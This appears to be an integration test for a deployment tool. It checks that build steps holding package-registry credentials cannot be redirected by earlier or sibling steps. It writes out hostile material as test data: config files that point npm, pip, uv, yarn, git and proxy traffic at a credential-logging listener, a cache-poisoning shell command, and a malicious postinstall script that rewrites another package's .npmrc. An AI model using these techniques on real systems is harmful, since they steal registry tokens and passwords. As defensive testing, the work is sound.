import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { succeeded } from '../harness/deploy'
import type { Host } from '../harness/hosts'
import { appsHost, TinyApp } from '../harness/tiny-app'

// Whoever gets a line in of what a release runs tries to be sent the credentials that a later step fetches packages with.
const [index, stranger] = [8651, 8652]
const [password, token] = ['pass-word-of-the-index-3', 'token-of-the-registry-44']
const secrets = { UV_INDEX_CORP_USERNAME: 'ada', UV_INDEX_CORP_PASSWORD: password, CORP_PASSWORD: password, NPM_TOKEN: token }
const units = ['credentials-index', 'credentials-stranger']
/** Answers nothing of use, and writes down all that it is told. */
const listening = `import http.server, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print(self.command, self.path, dict(self.headers), flush=True)
        self.send_response(401 if 'Authorization' not in self.headers else 404)
        self.send_header('WWW-Authenticate', 'Basic realm="corp"')
        self.send_header('Content-Length', '0')
        self.end_headers()
    do_HEAD = do_POST = do_CONNECT = do_GET
http.server.ThreadingHTTPServer(('127.0.0.1', ${stranger}), Handler).serve_forever()
`
const rc = `@corp:registry=http://127.0.0.1:${index}/npm/\n//127.0.0.1:${index}/npm/:_authToken=\${NPM_TOKEN}\n`
const manifest = (more: object = {}): string => JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { '@corp/greeter': '1.0.0' }, ...more })

/** What steers npm, uv and their like from a home, or from the folder of a package. */
const toStranger = `http://127.0.0.1:${stranger}`
const traps: Readonly<Record<string, string>> = {
  '.npmrc': `proxy=${toStranger}/\nnoproxy=\nregistry=${toStranger}/\n`,
  '.config/uv/uv.toml': `[[index]]\nname = "corp"\nurl = "${toStranger}/simple"\ndefault = true\n`,
  '.config/pip/pip.conf': `[global]\nindex-url = ${toStranger}/simple\n`,
  '.yarnrc.yml': `npmRegistryServer: "${toStranger}"\nunsafeHttpWhitelist: ["*"]\n`,
  '.gitconfig': `[http]\nproxy = ${toStranger}\n`,
  '.profile': `export HTTP_PROXY=${toStranger}\n`,
}
const layTraps = Object.entries(traps).map(([name, text]) =>
  `mkdir -p "$HOME/$(dirname ${name})" && printf '${text.replaceAll('\n', '\\n')}' >"$HOME/${name}"`)
/** A mark in every folder of the caches that lets one in. */
const poison = "find /var/cache/slipway -type d -exec sh -c 'echo poison >\"$1/poisoned\"' x {} ';' 2>/dev/null || true"

const service = (path: string, more: object): object => ({ path, start: 'sleep 1000', overlap: true, ...more })

let host: Host
let app: TinyApp
let lock: string
beforeAll(async () => {
  host = await appsHost()
  await host.shell('cat >/root/private-index.py', { input: readFileSync(join(import.meta.dirname, '../harness/private-index/serve.py'), 'utf8') })
  await host.shell('cat >/root/stranger.py', { input: listening })
  await host.shell(`for unit in ${units.join(' ')}; do systemctl stop $unit 2>/dev/null || true; done; : >/root/stranger.log
    systemd-run -q --unit=${units[0]} python3 /root/private-index.py ${index} ${password} ${token}
    systemd-run -q --unit=${units[1]} -p StandardOutput=append:/root/stranger.log python3 /root/stranger.py
    for port in ${index} ${stranger}; do for n in $(seq 600); do curl -s -o /dev/null http://127.0.0.1:$port/ && break; sleep 0.1; done; done; : >/root/stranger.log`)
  app = await TinyApp.on(host, 'lured', { web: { build: [...layTraps, poison] }, files: { 'js/none.txt': '' },
    config: { services: { js: service('js', { runtime: 'node@24' }) } } })
  const folder = await host.shell('mktemp -d')
  await host.shell(`cat >${folder}/package.json`, { input: manifest() })
  await host.shell(`cat >${folder}/.npmrc`, { input: rc })
  lock = await host.shell(`cd ${folder}; export PATH=$(echo /usr/local/lib/slipway/tools/node-24*/bin):$PATH HOME=${folder} NPM_TOKEN=${token}
    npm install --package-lock-only --ignore-scripts --silent; cat package-lock.json; rm -rf ${folder}`)
  succeeded(await app.push())
}, 600_000)
afterAll(async () => {
  await host?.shell(`systemctl stop ${units.join(' ')} 2>/dev/null || true`)
  app?.[Symbol.dispose]()
})

const python = service('py', { runtime: 'python', install: { secrets: ['UV_INDEX_CORP_USERNAME', 'UV_INDEX_CORP_PASSWORD', 'CORP_PASSWORD'] } })
const node = (path: string): object => service(path, { runtime: 'node@24', install: { secrets: ['NPM_TOKEN'] } })
const inPython = { 'py/requirements.txt': `--extra-index-url http://ada:\${CORP_PASSWORD}@127.0.0.1:${index}/simple\ncorp-greeter==1.0\n` }
const inNode = (path: string, more: object = {}): Record<string, string> => ({
  [`${path}/package.json`]: manifest(more), [`${path}/.npmrc`]: rc, [`${path}/package-lock.json`]: `${lock}\n` })
/** All that the stranger was told. */
const told = (): Promise<string> => host.shell('cat /root/stranger.log')
const poisoned = (): Promise<string> => host.shell(`cd /var/cache/slipway/${app.name}; find . -name poisoned | cut -d/ -f2 | sort -u`)

describe('a step that holds credentials', () => {
  it('reads nothing of what an earlier release has left', async () => {
    expect(await poisoned()).toBe('commands')
    await app.release({ tag: 'v2', web: { build: [] }, files: { ...inPython, ...inNode('js') }, config: { services: { py: python, js: node('js') } } })
    succeeded(await app.push({ env: secrets }))
    expect(await host.shell(`ls /opt/${app.name}/releases/v2-*/env/*/lib/python3*/site-packages/corp_greeter.py /opt/${app.name}/releases/v2-*/src/js/node_modules/@corp/greeter/ran.json | wc -l`)).toBe('2')
    expect(await told()).toBe('')
  })

  it('reads nothing of what the same release has run before', async () => {
    // The scripts of the one would be first, and reach into the folder of the other.
    const thief = { scripts: { postinstall: 'node thief.js' } }
    const text = `const fs = require('fs'); for (const folder of ['../b', process.env.HOME]) try { fs.writeFileSync(folder + '/.npmrc', ${JSON.stringify(`${traps['.npmrc']}${rc}`)}) } catch {}\n`
      + `require('child_process').execSync(${JSON.stringify(poison)})\n`
    await app.release({ tag: 'v3', files: { ...inNode('a', thief), 'a/thief.js': text, ...inNode('b', { description: 'another' }) },
      config: { services: { py: python, js: node('js'), a: node('a'), b: node('b') } } })
    succeeded(await app.push({ env: secrets }))
    // It has run, and came too late.
    expect(await host.shell(`grep -c ${stranger} /opt/${app.name}/releases/v3-*/src/b/.npmrc`)).toBe('2')
    expect(await told()).toBe('')
    expect(await poisoned()).toBe('commands')
  })

  it('leaves no home behind, and no cache that a build can enter', async () => {
    expect(await host.shell(`ls /var/cache/slipway/${app.name} | sort | tr '\\n' ' '; ls -A /var/cache/slipway/${app.name}/homes`))
      .toBe('commands homes npm-lock.credentials uv uv.credentials')
    await app.release({ tag: 'v4', web: { build: ['find /var/cache/slipway -maxdepth 2 | sort >seen.txt; ls -A "$HOME" >>seen.txt; cat "$HOME/.cache/poisoned" >>seen.txt'] } })
    succeeded(await app.push({ env: secrets }))
    const view = '/var/cache/slipway'
    expect((await host.shell(`cat /opt/${app.name}/releases/v4-*/src/seen.txt`)).split('\n'))
      .toEqual([view, `${view}/${app.name}`, `${view}/${app.name}/home`, `${view}/${app.name}/packages`, '.cache', 'poison'])
  })
})
